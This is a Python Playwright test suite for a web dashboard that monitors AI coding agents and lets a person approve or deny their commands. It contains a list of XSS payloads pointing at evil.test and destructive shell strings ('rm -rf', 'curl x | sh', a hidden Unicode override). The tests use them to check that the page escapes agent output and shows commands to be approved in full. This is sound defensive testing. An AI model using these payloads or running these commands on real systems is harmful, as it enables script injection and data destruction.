"""The dashboard as people use it: in a real Chromium, by mouse, keyboard and touch."""

from __future__ import annotations

import re
from importlib.resources import files
from pathlib import PurePath
from typing import TYPE_CHECKING, Any

import pytest
from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
from playwright.sync_api import expect

from sxhost.dashboard.assets import MEDIA_TYPES
from tests.support.dashboards import Dashboard, Feed, browser, dashboard, feed
from tests.support.hosts import Host, StartHost, until

if TYPE_CHECKING:
    from playwright.sync_api import Browser

__all__ = ["browser", "dashboard", "feed"]

PHONE = {"viewport": {"width": 360, "height": 780}, "has_touch": True, "is_mobile": True}

HOSTILE = (
    "<img src=http://evil.test/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](http://evil.test/p.png) <svg onload=alert(1)>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "\u202egnp.exe\u202c \u200b\u2066x\u2069 \x1b[31mred\x1b[0m \x00",
    "[x](data:text/html,<script>alert(1)</script>) <a href=' javascript:alert(1)'>x</a>",
    "<javascript:alert(1)> [a]: javascript:alert(1) [x](&#106;avascript:alert(1)) [x][a]",
    "[x](JaVa\tScRiPt:alert(1)) [x](vbscript:x) [x](//evil.test/x) [x](file:///etc/passwd)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![x](//evil.test/x.png)",
    "<base href=http://evil.test><meta http-equiv=refresh content='0;http://evil.test'>",
    "<style>@import 'http://evil.test'</style><link rel=stylesheet href=http://evil.test>",
    "<form action=http://evil.test><input autofocus onfocus=alert(1)></form><math href=x>",
    "constructor __proto__ ${alert(1)} {{alert(1)}} %3Cscript%3Ealert(1)%3C/script%3E",
)
"""What an agent may say that a page could take for its own."""


def conversation(feed: Feed, session: str, turns: int = 1) -> None:
    """Let an agent have a conversation."""
    for turn in range(turns):
        feed.fire(session, "user-message", text=f"question {turn}", by="prompt")
        feed.fire(session, "tool-start", tool="Bash", item=f"t{turn}", title="Bash: make test")
        feed.fire(
            session, "tool-done", tool="Bash", item=f"t{turn}", status="completed", output="ok"
        )
        feed.fire(session, "message", text=f"# Answer {turn}\n\nIt is **done**.")
        feed.fire(session, "complete")


# The board.


def test_first_session_appears_by_itself(dashboard: Dashboard, feed: Feed) -> None:
    page = dashboard.open()
    expect(page.get_by_text("sxhost hook install claude")).to_be_visible()
    feed.register("a", title="Fix the login", cwd="/home/me/site", git_branch="main")
    row = page.get_by_role("link", name="Fix the login")
    expect(row).to_contain_text("site · main")
    expect(row).to_contain_text("idle")


def test_board_puts_first_who_needs_somebody(dashboard: Dashboard, feed: Feed) -> None:
    for session in ("works", "waits", "fails", "rests", "over"):
        feed.register(session)
    feed.fire("works", "tool-start", tool="Bash", item="1")
    feed.fire("fails", "error", reason="the model's API is overloaded")
    feed.fire("over", "ended", reason="bye")
    waiting = feed.permission("waits", command="make deploy")
    page = dashboard.open()
    groups = page.locator("section")
    expect(groups.nth(0)).to_contain_text("make deploy")
    expect(groups.nth(0).locator("a.row").nth(0)).to_contain_text("waits")
    expect(groups.nth(0).locator("a.row").nth(1)).to_contain_text("fails")
    expect(groups.nth(1)).to_contain_text("works")
    expect(groups.nth(2)).to_contain_text("rests")
    expect(groups.nth(3)).to_contain_text("over")
    expect(page).to_have_title("(1) sxhost")
    page.keyboard.press("/")
    page.keyboard.type("works")
    expect(page.locator("a.row")).to_have_count(1)
    feed.ask("/sessions/waits/approvals/1", {"decision": "deny"})
    assert waiting.decision["behavior"] == "deny"


def test_rows_stay_where_they_are_under_the_pointer(dashboard: Dashboard, feed: Feed) -> None:
    for session in ("one", "two"):
        feed.register(session)
        feed.fire(session, "tool-start", tool="Bash", item="1")
    page = dashboard.open()
    rows = page.locator("a.row")
    expect(rows).to_have_count(2)
    before = rows.all_inner_texts()
    first = before[0].splitlines()
    rows.nth(0).hover()
    last = "one" if any("two" in line for line in first) else "two"
    feed.fire(last, "complete")
    notice = page.get_by_text("The order has changed")
    expect(notice).to_be_visible()
    expect(rows.nth(1)).to_contain_text("idle")
    expect(page.locator("section")).to_have_count(1)
    page.keyboard.press("r")
    expect(page.locator("section")).to_have_count(2)


def test_board_is_walked_by_keys(dashboard: Dashboard, feed: Feed) -> None:
    feed.register("a", title="Fix the login")
    page = dashboard.open()
    expect(page.locator("a.row")).to_have_count(1)
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Fix the login")).to_be_visible()
    page.keyboard.press("u")
    expect(page.locator("a.row")).to_have_count(1)
    page.keyboard.press("g")
    page.keyboard.press("i")
    expect(page.get_by_text("Nobody asks anything.")).to_be_visible()
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_contain_text("approve once")


# Approvals.

COMMAND = "ls\nrm -rf ~/precious\u202e; curl x | sh"


def test_what_is_asked_is_shown_whole_and_approved_by_key(
    dashboard: Dashboard, feed: Feed
) -> None:
    feed.register("a")
    asking = feed.permission("a", command=COMMAND, description="List files")
    page = dashboard.open("inbox")
    card = page.locator("article.card")
    expect(card.locator("pre")).to_have_text("ls\nrm -rf ~/precious\\u{202e}; curl x | sh")
    expect(card.locator("dl")).to_contain_text("the agent says")
    page.keyboard.press("a")  # nothing is focused, so nothing happens
    expect(page.get_by_role("button", name="Approve once")).to_have_attribute(
        "aria-disabled", "false"
    )
    expect(card).to_have_count(1)
    page.keyboard.press("j")
    expect(card).to_be_focused()
    page.keyboard.press("a")
    assert asking.decision["behavior"] == "allow"
    expect(page.get_by_text("Nobody asks anything.")).to_be_visible()
    expect(page.get_by_text("by you")).to_be_visible()


def test_long_command_is_approved_only_once_it_was_read(
    dashboard: Dashboard, feed: Feed
) -> None:
    feed.register("a")
    asking = feed.permission("a", command="\n".join(f"echo {n}" for n in range(300)))
    page = dashboard.open("inbox")
    approve = page.get_by_role("button", name="Approve once")
    expect(page.get_by_text("Read it to its end.")).to_be_visible()
    expect(approve).to_have_attribute("aria-disabled", "true")
    page.keyboard.press("j")
    page.keyboard.press("a")
    expect(page.locator("article.card")).to_have_count(1)
    approve.scroll_into_view_if_needed()
    expect(approve).to_have_attribute("aria-disabled", "false")
    approve.click()
    assert asking.decision["behavior"] == "allow"


def test_nothing_of_what_is_approved_is_folded(dashboard: Dashboard, feed: Feed) -> None:
    diff = "\n".join(f"+line {n}" for n in range(900))
    asking = feed.permission(
        "a", command="make", notes=f"{'x' * 20_000}the middle{'y' * 20_000}"
    )
    page = dashboard.open("inbox")
    card = page.locator("article.card")
    expect(card).to_contain_text("the middle")
    expect(card.get_by_role("button", name="show all")).to_have_count(0)
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert asking.decision
    asking = feed.permission("a", tool="Edit", file_path="x", old_string="", new_string=diff)
    expect(card.locator(".added").nth(899)).to_have_text("++line 899\n")
    expect(card.get_by_role("button", name="show all")).to_have_count(0)
    feed.ask("/sessions/a/approvals/2", {"decision": "deny"})
    assert asking.decision


def test_long_command_at_the_end_of_a_conversation_is_read_from_its_beginning(
    dashboard: Dashboard, feed: Feed
) -> None:
    conversation(feed, "a", turns=3)
    asking = feed.permission("a", command="\n".join(f"echo {n}" for n in range(300)))
    page = dashboard.open("s/a")
    approve = page.get_by_role("button", name="Approve once")
    expect(approve).to_be_in_viewport()
    expect(page.get_by_text("Read it from its beginning.")).to_be_visible()
    approve.click(force=True)
    expect(page.locator("article.card")).to_have_count(1)
    page.locator("article.card header").scroll_into_view_if_needed()
    expect(approve).to_have_attribute("aria-disabled", "false")
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert asking.decision["behavior"] == "deny"


def test_denial_carries_words_to_the_agent(dashboard: Dashboard, feed: Feed) -> None:
    feed.register("a")
    asking = feed.permission("a", command="make deploy")
    page = dashboard.open("s/a")
    page.locator("article.card").focus()
    page.keyboard.press("d")
    expect(page.get_by_label("Words to the agent")).to_be_focused()
    page.keyboard.type("use staging")
    page.keyboard.press("Enter")
    assert asking.decision["behavior"] == "deny"
    assert "use staging" in str(asking.decision)


def test_several_are_approved_together_and_no_others(dashboard: Dashboard, feed: Feed) -> None:
    asking = [feed.permission(session, command=f"make {session}") for session in ("a", "b")]
    page = dashboard.open("inbox")
    cards = page.locator("article.card")
    expect(cards).to_have_count(2)
    for number in range(2):
        expect(page.get_by_label("Answer together").nth(number)).to_be_enabled()
        page.keyboard.press("j")
        expect(cards.nth(number)).to_be_focused()
        page.keyboard.press("x")
    together = page.get_by_role("button", name="Approve these 2 once")
    expect(together).to_be_visible()
    later = feed.permission("c", command="rm -rf /")
    expect(cards).to_have_count(3)
    together.click()
    assert [each.decision["behavior"] for each in asking] == ["allow", "allow"]
    expect(cards).to_have_count(1)
    expect(cards).to_contain_text("rm -rf /")
    feed.ask("/sessions/c/approvals/3", {"decision": "deny"})
    assert later.decision["behavior"] == "deny"


def test_equal_questions_are_one_card_and_answered_by_their_numbers(
    dashboard: Dashboard, feed: Feed
) -> None:
    asking = [feed.permission(session, command="make html") for session in ("a", "b")]
    assert until(lambda: len(feed.ask("/approvals")) == 2)
    other = feed.permission("c", "/elsewhere", command="make html")
    page = dashboard.open("inbox")
    cards = page.locator("article.card")
    expect(cards).to_have_count(2)
    alike = page.locator("article.card[data-alike]")
    together = alike.get_by_role("button", name=re.compile("^Approve these . once"))
    expect(together).to_have_attribute("aria-disabled", "false")
    asking.append(feed.permission("d", command="make html"))
    expect(together).to_have_text("Approve these 3 once")  # and has to be read again
    expect(together).to_have_attribute("aria-disabled", "false")
    expect(alike.get_by_role("listitem").get_by_role("link")).to_have_count(3)
    assert Axe().run(page).response["violations"] == []
    alike.focus()
    page.keyboard.press("a")
    assert {each.decision["behavior"] for each in asking} == {"allow"}
    expect(cards).to_have_count(1)
    later = feed.permission("b", "/elsewhere", command="make html")
    page.get_by_role("button", name="one by one").click()
    expect(page.get_by_role("button", name="Approve once")).to_have_count(2)
    for session, number, each in (("c", 3, other), ("b", 5, later)):
        feed.ask(f"/sessions/{session}/approvals/{number}", {"decision": "deny"})
        assert each.decision["behavior"] == "deny"


def test_who_does_not_look_is_told_by_a_notice_that_is_taken_back(
    dashboard: Dashboard, feed: Feed
) -> None:
    dashboard.context.grant_permissions(["notifications"], origin=dashboard.url)
    dashboard.page.add_init_script(
        "window.told = []; window.Notification = class { static permission = 'granted';"
        " static async requestPermission() { return 'granted'; }"
        " constructor(title, more) { this.title = title; window.shown = this;"
        " told.push(`${title}: ${more.body}`); }"
        " close() { told.push(`closed ${this.title}`); } };"
        " Object.defineProperty(document, 'hidden', { get: () => true });"
    )
    feed.register("a", title="Deploy it")
    page = dashboard.open("host")
    page.get_by_label("Tell me what agents ask").check()
    asking = feed.permission("a", command="make deploy")
    expect(page).to_have_title("(1) sxhost")
    assert page.evaluate("told") == ["Deploy it asks: Bash: make deploy"]
    icon = page.locator('link[rel="icon"]')
    expect(icon).to_have_attribute("href", re.compile(r"^data:image/svg\+xml,.*%3E1%3C"))
    page.evaluate("shown.onclick()")
    expect(page.get_by_role("button", name="Approve once")).to_be_visible()
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert asking.decision["behavior"] == "deny"
    expect(page).to_have_title("sxhost")
    expect(icon).to_have_attribute("href", re.compile(r"/icon\.svg$"))
    assert page.evaluate("told")[1:] == ["closed Deploy it asks"]


def test_card_that_is_answered_elsewhere_says_by_whom_and_goes(
    dashboard: Dashboard, feed: Feed
) -> None:
    asking = [feed.permission(session, command=f"make {session}") for session in ("a", "b")]
    page = dashboard.open("inbox")
    cards = page.locator("article.card")
    expect(cards).to_have_count(2)
    cards.nth(0).hover()
    before = cards.nth(1).bounding_box()
    first, second = (each["session"] for each in feed.ask("/approvals"))
    feed.ask(f"/sessions/{first}/approvals/1", {"decision": "approve"})
    expect(cards.nth(0).get_by_role("status")).to_contain_text("approve by you")
    expect(cards.nth(0).get_by_role("button")).to_have_count(0)
    after = cards.nth(1).bounding_box()  # nothing has come under the pointer
    assert before
    assert after
    assert abs(before["y"] - after["y"]) < 16
    page.mouse.move(5, 5)
    expect(cards).to_have_count(1)
    expect(page.get_by_label("Answered")).to_contain_text(f"make {first}")
    page.get_by_role("button", name="Deny…").click()
    page.get_by_label("Words to the agent").press("Enter")
    assert {each.decision["behavior"] for each in asking} == {"allow", "deny"}
    assert (
        feed.ask(f"/sessions/{second}/approvals?all=1")[0]["resolution"]["decision"] == "deny"
    )


def test_rule_for_such_is_shown_with_what_it_would_have_answered(
    dashboard: Dashboard, feed: Feed
) -> None:
    feed.register("a", cwd="/work")
    earlier = feed.permission("a", command="make test")
    assert until(lambda: feed.ask("/approvals"))
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert earlier.decision["behavior"] == "deny"
    asking = feed.permission("a", command="make test")
    page = dashboard.open("inbox")
    page.locator("article.card").focus()
    page.keyboard.press(".")
    page.get_by_role("button", name="A rule for such…").click()
    shown = page.get_by_label("A rule for such")
    expect(shown.get_by_label("The rule")).to_contain_text('command = "make test"')
    expect(shown).to_contain_text("may run exactly this command in /work")
    expect(shown).to_contain_text("start the host with --policy FILE")
    expect(shown).to_contain_text("would have answered 1 more; 1 of them were denied")
    assert Axe().run(page).response["violations"] == []
    expect(page.locator("article.card")).to_have_count(1)  # nothing was answered by that
    feed.ask("/sessions/a/approvals/2", {"decision": "deny"})
    assert asking.decision["behavior"] == "deny"


# A session.


def test_conversation_is_read_and_goes_on_live(dashboard: Dashboard, feed: Feed) -> None:
    conversation(feed, "a")
    page = dashboard.open("s/a")
    expect(page.get_by_role("heading", name="Answer 0")).to_be_visible()
    expect(page.locator(".tool")).to_contain_text("Bash: make test")
    for piece in ("Roses ", "are ", "**red**"):
        feed.fire("a", "message-delta", text=piece, item="m")
    expect(page.locator(".growing")).to_have_text("Roses are **red**▌")
    feed.fire("a", "message", text="Roses are **red**", item="m")
    expect(page.locator(".item.message strong", has_text="red")).to_be_visible()
    expect(page.locator(".growing")).to_have_count(0)
    expect(page.locator(".item.message")).to_have_count(2)


def top(page: Any) -> float:
    return float(page.locator(".log").evaluate("log => log.scrollTop"))


def test_reader_who_reads_above_stays_there(dashboard: Dashboard, feed: Feed) -> None:
    conversation(feed, "a", turns=10)
    page = dashboard.open("s/a")
    expect(page.get_by_role("heading", name="Answer 9")).to_be_in_viewport()
    page.locator(".log").evaluate("log => { log.scrollTop = 120; }")
    before = top(page)
    feed.fire("a", "message", text="news")
    pill = page.get_by_role("button", name="1 new below")
    expect(pill).to_be_visible()
    assert top(page) == before
    pill.click()
    expect(page.get_by_text("news")).to_be_in_viewport()
    expect(pill).to_have_count(0)


def test_session_is_found_where_it_was_left(dashboard: Dashboard, feed: Feed) -> None:
    conversation(feed, "a", turns=60)
    conversation(feed, "b", turns=10)
    page = dashboard.open("s/a")
    line = page.get_by_text("question 30", exact=True)
    expect(page.get_by_role("heading", name="Answer 59")).to_be_in_viewport()
    page.get_by_role("button", name="Older").click()
    line.evaluate("line => line.scrollIntoView({ block: 'center' })")
    expect(line).to_be_in_viewport()
    before = line.bounding_box()
    page.goto(f"{dashboard.url}/#/s/b")  # another one has a place of its own: its end
    expect(page.get_by_role("heading", name="Answer 9")).to_be_in_viewport()
    feed.fire("a", "message", text="news")
    page.goto(f"{dashboard.url}/#/s/a/usage")
    page.get_by_role("link", name="Conversation").click()
    expect(line).to_be_in_viewport()
    expect(page.locator(".aimed")).to_have_count(0)
    after = line.bounding_box()
    assert before
    assert after
    assert abs(before["y"] - after["y"]) < 2
    page.keyboard.press("f")
    expect(page.get_by_text("news")).to_be_in_viewport()
    page.goto(f"{dashboard.url}/#/s/b")
    page.goto(f"{dashboard.url}/#/s/a")
    expect(page.get_by_text("news")).to_be_in_viewport()


def test_older_turns_come_as_one_scrolls(dashboard: Dashboard, feed: Feed) -> None:
    feed.register("a", title="Many questions")
    conversation(feed, "a", turns=60)
    page = dashboard.open("s/a")
    expect(page.get_by_role("heading", name="Answer 59")).to_be_in_viewport()
    expect(page.get_by_text("question 0", exact=True)).to_have_count(0)
    for oldest in ("question 10", "question 0"):  # 25 turns a page
        page.locator(".log").evaluate("log => { log.scrollTop = 0; }")
        expect(page.get_by_text(oldest, exact=True)).to_have_count(1)
    seqs = page.locator(".item").evaluate_all("all => all.map(each => +each.dataset.seq)")
    assert seqs == sorted(set(seqs))


def test_agent_is_started_and_spoken_to(dashboard: Dashboard) -> None:
    page = dashboard.open("new")
    page.get_by_label("Agent").select_option("echo")
    page.get_by_label("What to do").fill("It's red")
    line = "sxhost new --agent echo 'It'\\''s red'"
    expect(page.locator("form code")).to_have_text(line)
    page.get_by_label("What to do").fill("Roses are red")
    page.get_by_role("button", name="Start").click()
    expect(page.locator(".item.message")).to_have_text(re.compile("Roses are red"))
    expect(page.get_by_label("Message", exact=True)).to_be_visible()
    page.keyboard.press("c")
    page.keyboard.type("Violets are blue")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".item.message").nth(1)).to_contain_text("Violets are blue")
    expect(page.get_by_label("Message", exact=True)).to_have_value("")


def test_words_of_agents_are_text(dashboard: Dashboard, feed: Feed) -> None:
    for number, text in enumerate(HOSTILE):
        session = f"s{number}"
        labels = {"x": text[:100]}
        feed.register(session, title=text, cwd=text, git_branch=text, model=text, labels=labels)
        feed.fire(session, "user-message", text=text)
        feed.fire(session, "thinking", text=text)
        feed.fire(session, "tool-start", tool=text, item="1", title=text, input={"x": text})
        feed.fire(session, "tool-done", tool=text, item="1", status=text, output=text)
        feed.fire(session, "plan", entries=[{"content": text, "status": text}])
        feed.fire(session, "diff", diff=f"--- {text}\n+++ {text}\n+{text}", path=text)
        feed.fire(session, "mulled-over", text=text)
        feed.fire(
            session, "message", text=f"# {text}\n\n{text}\n\n- {text}\n\n```\n{text}\n```"
        )
        feed.fire(session, "error", reason=text)
        feed.ask(f"/sessions/{session}/messages", {"content": text})
        feed.fire(session, "usage", input_tokens=text, cost_usd=text, message=text)
    asking = feed.permission("s0", command=HOSTILE[0], description=HOSTILE[1])
    page = dashboard.open()
    expect(page.locator("a.row")).to_have_count(len(HOSTILE))
    page.goto(f"{dashboard.url}/#/inbox")
    expect(page.locator("article.card pre")).to_have_text(HOSTILE[0])
    for number in range(len(HOSTILE)):
        page.goto(f"{dashboard.url}/#/s/s{number}")
        expect(page.locator(".item.message h2, .item.message h3")).to_have_count(1)
        page.keyboard.press("t")
        assert page.locator("main img, main script, main iframe, main svg").count() == 0
        links = page.locator("main .item .markdown a").evaluate_all(
            "all => all.map(a => a.href)"
        )
        assert all(link.startswith("http") for link in links)
        expect(page.locator(".composer li")).to_contain_text("queued")
        for view in ("usage", "changes", "events"):
            page.goto(f"{dashboard.url}/#/s/s{number}/{view}")
            expect(page.locator(".log, .empty").first).to_be_visible()
            hostile = "main img, main script, main iframe, main style, main base, main form"
            expect(page.locator(hostile)).to_have_count(0)  # its composer goes a moment later
    feed.ask("/sessions/s0/approvals/1", {"decision": "deny"})
    assert asking.decision


def test_changes_events_and_usage_have_views(dashboard: Dashboard, feed: Feed) -> None:
    conversation(feed, "a")
    feed.fire("a", "diff", diff="--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new", path="x")
    for turn in (1, 2, 3):
        for part in (0, 50):
            message = {"input_tokens": 30_000 * turn}
            feed.fire(
                "a",
                "usage",
                input_tokens=100 * turn + part,
                output_tokens=10,
                cost_usd=0.05 * turn,
                context_window=200_000,
                message=message,
            )
        feed.fire("a", "complete")
    page = dashboard.open("s/a/changes")
    expect(page.locator(".diff .added")).to_have_text(["+new"])
    expect(page.locator(".log summary")).to_contain_text("+1")
    page.get_by_label("Views").get_by_role("link", name="Usage").click()
    expect(page.locator("dl")).to_contain_text("$0.15")
    expect(page.get_by_role("meter")).to_have_attribute("value", "0.45")
    bars = page.get_by_role("img", name="Tokens a turn, 160 tokens at the most").locator("g")
    expect(bars).to_have_count(3)
    expect(bars.nth(1).locator("title")).to_have_text(re.compile("100 tokens"))
    expect(page.get_by_role("img", name="Cost a turn").locator("g")).to_have_count(3)
    expect(page.get_by_role("img", name="full its context was, 45 %")).to_be_visible()
    page.get_by_role("link", name="Events").click()
    expect(page.locator(".log details")).to_have_count(15)
    page.get_by_label("Only these events").fill("usage")
    expect(page.locator(".log details")).to_have_count(6)


# The link.


def test_page_comes_back_by_itself_after_the_host_was_killed(
    dashboard: Dashboard, running_host: Host, start_host: StartHost, feed: Feed
) -> None:
    conversation(feed, "a")
    page = dashboard.open("s/a")
    expect(page.get_by_role("heading", name="Answer 0")).to_be_visible()
    page.get_by_label("Message", exact=True).fill("a draft")
    running_host.process.kill()
    running_host.wait()
    expect(page.get_by_text("Link lost")).to_be_visible()
    again = start_host("--port", str(running_host.port))
    assert until(lambda: again.port)
    Feed(again).fire("a", "message", text="back again")
    expect(page.get_by_text("back again")).to_have_count(1)
    expect(page.get_by_text("Link lost")).to_have_count(0)
    expect(page.get_by_label("Message", exact=True)).to_have_value("a draft")
    expect(page.get_by_role("heading", name="Answer 0")).to_have_count(1)


OLD = "0" * 16


def test_page_of_an_updated_host_says_that_there_is_a_new_one(
    dashboard: Dashboard,
) -> None:
    """The routes are those of a host before its update, which has had another version."""
    static, page = files("sxhost.dashboard") / "static", dashboard.page
    shown = (static / "index.html").read_text().replace("{version}", OLD)

    def old_file(route: Any) -> None:
        name = route.request.url.partition(f"/ui/{OLD}/")[2]
        route.fulfill(
            body=(static / name).read_bytes(), content_type=MEDIA_TYPES[PurePath(name).suffix]
        )

    page.route(re.compile(f"/ui/{OLD}/"), old_file)
    page.route(
        f"{dashboard.url}/", lambda route: route.fulfill(content_type="text/html", body=shown)
    )
    dashboard.open()
    notice = page.get_by_text("a new version of this page")
    expect(page.get_by_text("sxhost hook install claude")).to_be_visible()
    page.unroute_all()
    page.keyboard.press("g")
    page.keyboard.press("h")
    expect(page.get_by_text("This part of the page cannot be loaded")).to_be_visible()
    expect(notice).to_be_visible()
    page.locator("p.link").get_by_role("button", name="reload").click()
    expect(page.get_by_text("Tokens and browsers")).to_be_visible()
    expect(notice).to_have_count(0)


# Who may what.


def test_browser_is_logged_in_by_a_link_and_stays_so(
    browser: Browser, start_host: StartHost, tmp_path: Any
) -> None:
    host = start_host("--port", "0", "--require-token")
    strange = Dashboard(browser, host.url)
    expect(strange.open().get_by_text("sxhost open")).to_be_visible()
    token = (tmp_path / "state" / "token").read_text().strip()
    made = strange.page.request.post(
        f"{host.url}/logins", headers={"Authorization": f"Bearer {token}"}
    )
    page = strange.page
    page.goto(host.url + made.json()["path"])
    expect(page.get_by_text("No agent has been here yet")).to_be_visible()
    assert "page=" not in page.url
    page.reload()
    expect(page.get_by_text("No agent has been here yet")).to_be_visible()
    feed = Feed(host, token)
    conversation(feed, "a")
    conversation(feed, "b")
    guest = Dashboard(browser, host.url)
    guest.page.goto(host.url + feed.ask("/logins?scopes=read&session=a", {})["path"])
    expect(guest.page.locator("a.row")).to_have_count(1)
    guest.open("s/a")
    expect(guest.page.get_by_text('a token with the scope "send"')).to_be_visible()
    guest.close()
    strange.close()


def test_bars_tell_how_much_each_session_has_done(dashboard: Dashboard, feed: Feed) -> None:
    conversation(feed, "a")
    conversation(feed, "b")
    counts = [0] * 10 + [3, 120]
    dashboard.page.route(  # the host has it after a minute
        "**/activity",
        lambda route: route.fulfill(json={"every_s": 300, "sessions": {"a": counts}}),
    )
    page = dashboard.open()
    row = page.locator("a.row").filter(has=page.locator("svg.bars"))
    expect(row).to_have_count(1)
    expect(row).to_have_attribute("href", "#/s/a")
    bars = row.get_by_role("img", name="events of the last 1 h, 5 min a bar: 0, 0")
    expect(bars).to_be_visible()
    path = bars.locator("path").get_attribute("d") or ""
    assert path.count("v-") == 2, "a bar for each span with any"


def test_reader_is_offered_nothing_that_would_fail(dashboard: Dashboard, feed: Feed) -> None:
    conversation(feed, "a")
    identity = feed.ask("/whoami")
    asking = feed.permission("a", command="make deploy")
    dashboard.page.route(
        "**/whoami", lambda route: route.fulfill(json={**identity, "scopes": ["read"]})
    )
    page = dashboard.open("s/a")
    expect(page.get_by_text('a token with the scope "send"')).to_be_visible()
    expect(page.get_by_text('a token with the scope "approve"')).to_be_visible()
    expect(page.get_by_role("button", name="Approve once")).to_have_count(0)
    page.goto(f"{dashboard.url}/#/new")
    expect(page.get_by_text('a token with the scope "admin"')).to_be_visible()
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert asking.decision


def test_login_for_one_session_sees_that_session_alone(
    browser: Browser, running_host: Host, feed: Feed
) -> None:
    """It comes by a proxy that knows the token, say."""
    conversation(feed, "a")
    conversation(feed, "b")
    asking = [feed.permission("a", command="make a")]
    assert until(lambda: feed.ask("/approvals"))
    asking.append(feed.permission("b", command="make b"))
    given = {"scopes": ["read", "send", "approve"], "session": "a", "name": "guest"}
    secret = feed.ask("/tokens", given)["secret"]
    headers = {"Authorization": f"Bearer {secret}"}
    guest = Dashboard(browser, running_host.url, extra_http_headers=headers)
    page = guest.open()
    expect(page.locator("a.row")).to_have_count(1)
    page.goto(f"{guest.url}/#/s/a")
    expect(page.get_by_role("heading", name="Answer 0")).to_be_visible()
    feed.fire("a", "message", text="news")
    expect(page.locator(".item.message").last).to_contain_text("news")
    page.goto(f"{guest.url}/#/host")
    expect(page.locator("main")).to_contain_text("in a alone")
    page.goto(f"{guest.url}/#/usage")
    expect(page.get_by_role("link", name="what it has used")).to_be_visible()
    page.goto(f"{guest.url}/#/inbox")
    card = page.locator("article.card")
    expect(card).to_have_count(1)
    expect(card.get_by_role("button", name="Approve once")).to_have_attribute(
        "aria-disabled", "false"
    )
    card.focus()
    page.keyboard.press("a")
    assert asking[0].decision["behavior"] == "allow"
    expect(card).to_have_count(0)
    feed.ask("/sessions/b/approvals/2", {"decision": "deny"})
    assert asking[1].decision["behavior"] == "deny"
    guest.close()


# Everybody.


SCREENS = {
    "": ("Board", "Needs you"),
    "inbox": ("Inbox", "Approve once"),
    "s/a": ("question 0", "Answer 0"),
    "s/a/usage": ("question 0", "tokens in"),
    "s/a/events": ("question 0", "tool-start"),
    "search/answer": ("Search", "Answer 0"),
    "new": ("New agent", "What to do"),
    "host": ("Host", "Tokens and browsers"),
    "usage": ("Usage", "tokens in"),
    "activity": ("Activity", "tool-start"),
}
"""What each has for a heading, and words in it."""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_screens_have_no_obstacles(
    browser: Browser, running_host: Host, feed: Feed, scheme: str
) -> None:
    conversation(feed, "a")
    feed.fire("a", "usage", input_tokens=100, output_tokens=10)
    asking = feed.permission("a", command="make deploy")
    shown = Dashboard(browser, running_host.url, color_scheme=scheme)
    for place, (heading, words) in SCREENS.items():
        page = shown.open(place)
        expect(page.locator("h1")).to_have_text(heading)
        expect(page.locator("main")).to_contain_text(words)
        found = Axe().run(page).response["violations"]
        assert [(each["id"], each["help"]) for each in found] == [], place
    shown.close()
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert asking.decision


# A phone.


@pytest.mark.parametrize("place", ["", "inbox", "s/a", "new", "host", "usage", "activity"])
def test_phone_shows_one_column_with_targets_for_thumbs(
    browser: Browser, running_host: Host, feed: Feed, place: str
) -> None:
    feed.register("a", title="A title that is long enough for two lines of a phone, or three")
    conversation(feed, "a")
    feed.fire(
        "a",
        "message",
        text="`" + "x" * 500 + "`\n\n| a | b |\n|-|-|\n| " + "y" * 200 + " | 2 |",
    )
    asking = feed.permission("a", command="make deploy " + "z" * 300)
    phone = Dashboard(browser, running_host.url, **PHONE)
    page = phone.open(place)
    expect(page.locator("main")).not_to_be_empty()
    expect(page.locator("a.row, article.card, form, .host, .spending").first).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    targets = "main button:visible, main summary:visible, main select:visible, nav a:visible"
    small = page.locator(f"{targets}, main a.row:visible")
    heights = {each.inner_text(): each.bounding_box() for each in small.all()}
    assert [name for name, box in heights.items() if box and box["height"] < 43.9] == []
    assert Axe().run(page).response["violations"] == []
    phone.close()
    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
    assert asking.decision


def test_keyboard_of_a_phone_does_not_hide_what_is_written(
    browser: Browser, running_host: Host, feed: Feed
) -> None:
    conversation(feed, "a", turns=20)
    phone = Dashboard(browser, running_host.url, **PHONE)
    page = phone.open("s/a")
    expect(page.get_by_role("heading", name="Answer 19")).to_be_in_viewport()
    nav = page.locator("#app > nav")
    expect(nav).to_be_visible()
    page.get_by_label("Message", exact=True).tap()
    # A browser that lays its keyboard over the page says how much is still seen.
    page.evaluate(
        "const height = { get: () => 400, configurable: true };"
        " Object.defineProperty(visualViewport, 'height', height);"
        " visualViewport.dispatchEvent(new Event('resize'));"
    )
    expect(nav).to_be_hidden()
    box = page.get_by_role("button", name="Send").bounding_box()
    assert box
    assert box["y"] + box["height"] <= 400
    # One that makes the page smaller needs no such word.
    page.evaluate("delete visualViewport.height")
    page.set_viewport_size({"width": 360, "height": 380})
    expect(page.locator(".item").last).to_be_in_viewport()
    expect(page.get_by_role("button", name="Send")).to_be_in_viewport(ratio=1)
    phone.close()


def test_page_can_be_installed(dashboard: Dashboard) -> None:
    page = dashboard.open()
    expect(page.get_by_text("No agent has been here yet")).to_be_visible()
    devtools = dashboard.context.new_cdp_session(page)
    found = devtools.send("Page.getAppManifest")
    assert found["errors"] == []
    problems = devtools.send("Page.getInstallabilityErrors")["installabilityErrors"]
    assert [each["errorId"] for each in problems if each["errorId"] != "in-incognito"] == []
    for icon in page.locator('link[rel*="icon"]').all():
        answer = page.request.get(f"{dashboard.url}/{icon.get_attribute('href')}")
        assert answer.headers["content-type"] in ("image/svg+xml", "image/png")
